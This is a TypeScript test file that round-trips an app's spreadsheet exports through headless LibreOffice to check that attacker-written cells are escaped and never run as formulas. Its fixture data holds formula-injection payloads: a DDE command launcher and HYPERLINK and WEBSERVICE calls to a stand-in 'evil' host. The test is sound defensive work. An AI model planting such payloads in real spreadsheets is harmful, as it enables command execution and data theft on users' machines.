// npm test: once, on PostgreSQL (scripts/lib/service-tests.mjs): the database only backs the app; what is checked is the exported files as LibreOffice reads them.
// Issue 17 §4, checked by an outside reader: the exported files are opened by LibreOffice
// (Debian's libreoffice-calc-nogui, headless) and converted to CSV; every value read back must
// be what the sheet shows, and no cell an attacker wrote may run as a formula.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import Papa from 'papaparse';
import { signupAdmin } from './support/auth-helpers.js';
import { type ApiClient, apiClient } from './support/api-client.js';
import { createTestApp, type TestApp } from './support/test-app.js';

const soffice = (process.env.PATH ?? '').split(path.delimiter).map((dir) => path.join(dir, 'soffice')).find((file) => fs.existsSync(file));
const SKIP = soffice ? false : 'soffice (LibreOffice, Debian package libreoffice-calc-nogui) is not installed: `apt-get install -y libreoffice-calc-nogui`';

/** LibreOffice's CSV filter options: comma, double quote, UTF-8, from line 1, ..., English (US), evaluate formulas (token 13). */
const CSV_IN = 'CSV:44,34,76,1,,1033,false,true,false,false,false,,true';
/** CSV out: comma, double quote, UTF-8; the cells' values, not their formulas. */
const CSV_OUT = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true,false,false';

/** Converts `files` (in `dir`) to CSV in one LibreOffice run (it takes seconds to start) with a fresh profile; returns each file's rows. */
function convert(dir: string, files: string[], inFilter?: string): Map<string, string[][]> {
  const out = path.join(dir, `out-${files[0]}`);
  const args = [
    `-env:UserInstallation=file://${path.join(dir, `profile-${files[0]}`)}`,
    '--headless',
    '--norestore',
    ...(inFilter ? [`--infilter=${inFilter}`] : []),
    '--convert-to',
    CSV_OUT,
    '--outdir',
    out,
    ...files.map((f) => path.join(dir, f)),
  ];
  const run = spawnSync(soffice!, args, { encoding: 'utf8', timeout: 180_000 });
  assert.equal(run.status, 0, `soffice failed: ${run.stderr}\n${run.stdout}`);
  const rows = new Map<string, string[][]>();
  for (const file of files) {
    const csv = path.join(out, `${path.parse(file).name}.csv`);
    assert.ok(fs.existsSync(csv), `LibreOffice did not convert ${file}: ${run.stdout} ${run.stderr}`);
    rows.set(file, Papa.parse<string[]>(fs.readFileSync(csv, 'utf8'), { skipEmptyLines: true }).data);
  }
  return rows;
}

const DDE = "=cmd|' /C calc'!A0";
const LINK = '=HYPERLINK("https://evil"&B1)';

describe('exports read back through LibreOffice', { skip: SKIP }, () => {
  let t: TestApp;
  let api: ApiClient;
  let dir: string;
  let hostile: string;
  let plain: string;
  before(async () => {
    t = await createTestApp();
    api = apiClient(t.app, (await signupAdmin(t.app)).accessToken);
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tessera-lo-'));
    const create = async (name: string, headers: string[], data: unknown[][]) => {
      const res = await api.post('/api/v1/sheets', { name, headers, data });
      assert.equal(res.statusCode, 201, res.body);
      return res.json().id as string;
    };
    hostile = await create('Hostile', ['Text', 'Number', 'Formula'], [
      [DDE, -5, '=B1*2'],
      [LINK, 2.5, '=SUM(B1:B2)'],
      ['@SUM(1+1)', '-1.5e3', '+1+1'],
      ['=[book.xlsx]Sheet1!A1', 'x, "quoted"', '=WEBSERVICE("https://evil")'],
      ['ünïcödé', '', '=B1/0'],
    ]);
    // What a careful user exports on purpose with formulas=keep: LibreOffice computes it.
    plain = await create('Plain', ['a', 'b'], [['=1+1', '+2+2']]);
    const save = async (file: string, url: string) => {
      const res = await api.get(url);
      assert.equal(res.statusCode, 200, res.body);
      fs.writeFileSync(path.join(dir, file), res.rawPayload);
    };
    await save('escaped.csv', `/api/v1/sheets/${hostile}/export?format=csv`);
    await save('kept.csv', `/api/v1/sheets/${plain}/export?format=csv&formulas=keep`);
    await save('book.xlsx', `/api/v1/sheets/${hostile}/export?format=xlsx`);
  });
  after(async () => {
    await t?.close();
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  it('CSV: with formula evaluation on, every escaped cell reads back as its text and numbers as numbers; formulas=keep is computed', () => {
    const rows = convert(dir, ['escaped.csv', 'kept.csv'], CSV_IN);
    assert.deepEqual(rows.get('escaped.csv'), [
      ['Text', 'Number', 'Formula'],
      [`'${DDE}`, '-5', "'=B1*2"],
      [`'${LINK}`, '2.5', "'=SUM(B1:B2)"],
      ["'@SUM(1+1)", '-1500', "'+1+1"],
      ["'=[book.xlsx]Sheet1!A1", 'x, "quoted"', `'=WEBSERVICE("https://evil")`],
      ['ünïcödé', '', "'=B1/0"],
    ]);
    // The check above means something: the same reader runs a formula it is given as one
    // (LibreOffice starts formulas with '=' only; Excel also runs '+2+2', hence its apostrophe above).
    assert.deepEqual(rows.get('kept.csv'), [
      ['a', 'b'],
      ['2', '+2+2'],
    ]);
  });

  it('XLSX: grid formulas show their values; DDE, links, external references and unknown functions show as text', () => {
    const rows = convert(dir, ['book.xlsx']);
    assert.deepEqual(rows.get('book.xlsx'), [
      ['Text', 'Number', 'Formula'],
      [DDE, '-5', '-10'],
      [LINK, '2.5', '-2.5'],
      ['@SUM(1+1)', '-1.5e3', '+1+1'],
      ['=[book.xlsx]Sheet1!A1', 'x, "quoted"', '=WEBSERVICE("https://evil")'],
      ['ünïcödé', '', '#DIV/0!'],
    ]);
  });
});
